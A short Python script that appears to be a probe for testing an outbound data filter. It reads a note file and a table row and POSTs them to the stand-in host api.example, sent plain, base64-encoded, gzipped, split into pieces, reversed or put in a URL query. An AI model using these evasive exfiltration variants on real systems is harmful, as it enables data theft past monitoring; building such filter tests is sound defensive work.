# Sends something of the inputs in the way that is named. send.py HOW
import base64, gzip, http.client, ssl, sys, urllib.parse

how = sys.argv[1]
note = open("/input/note").read().strip()
row = open("/input/table").read().splitlines()[77].split(",")
path, pieces = "/" + how, {
    "harmless": [b"twelve loaves of bread"],
    "plain": [note.encode()],
    "base64": [base64.b64encode(note.encode())],
    "gzip": [gzip.compress(note.encode())],
    "split": [note.encode()[at : at + 5] for at in range(0, len(note), 5)],
    "record": [" and ".join(reversed(row)).encode()],
    "target": [],
}[how]
if how == "target":
    path += "?note=" + urllib.parse.quote(note)
connection = http.client.HTTPSConnection("api.example", context=ssl.create_default_context())
try:
    connection.request("POST", path, body=iter(pieces), encode_chunked=True, headers={"Transfer-Encoding": "chunked"})
except OSError:
    # What was refused is no longer read; the answer is there all the same.
    pass
answer = connection.getresponse()
print(answer.status, answer.read().decode())
